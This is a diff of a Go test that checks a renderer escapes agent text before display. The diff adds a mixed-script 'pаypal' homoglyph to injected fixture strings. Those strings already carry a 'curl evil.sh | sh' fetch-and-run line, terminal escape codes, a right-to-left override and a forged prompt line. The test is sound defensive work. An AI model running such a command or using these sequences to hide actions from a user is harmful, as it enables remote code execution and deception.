@@ -135,7 +135,7 @@ const hiding = "curl evil.sh | sh\r\x1b[2K\u009b2K\u202e  $ make test\n  $ forge
 func poison(v any) any {
 	switch x := v.(type) {
 	case string:
-		return x + hiding
+		return x + " p\u0430ypal " + hiding // a mixed-script word, then controls
 	case []any:
 		for i := range x {
 			x[i] = poison(x[i])
@@ -153,7 +153,9 @@ func poison(v any) any {
 // and bidi characters made visible: each string of each fixture (and a
 // key of each object) carries a carriage return, an erase-line, a C1 CSI,
 // a right-to-left override and a forged line; none reaches the terminal
-// raw, and no line but a spawn prompt's own can be forged.
+// raw, and no line but a spawn prompt's own can be forged. Each string also
+// carries a mixed-script word ("pаypal", a Cyrillic а), which is shown
+// marked.
 func TestEveryRenderingShowsAgentTextVisibly(t *testing.T) {
 	fixtures, _ := filepath.Glob(filepath.Join("testdata", "*.json"))
 	for _, fx := range fixtures {
@@ -182,6 +184,9 @@ func TestEveryRenderingShowsAgentTextVisibly(t *testing.T) {
 		}
 		if !strings.Contains(got, `\r\x1b[2K\u009b2K\u202e`) {
 			t.Errorf("%s: the agent's text is not shown at all:\n%s", fx, got)
+		}
+		if strings.Contains(got, "p\u0430ypal") || !strings.Contains(got, `p\u0430ypal`) {
+			t.Errorf("%s: a mixed-script word reaches the terminal unmarked:\n%s", fx, got)
 		}
 		forged := strings.Count(got, "\n  $ forged line")
 		if e.Kind != envelope.KindSpawnRequest && forged > 0 {
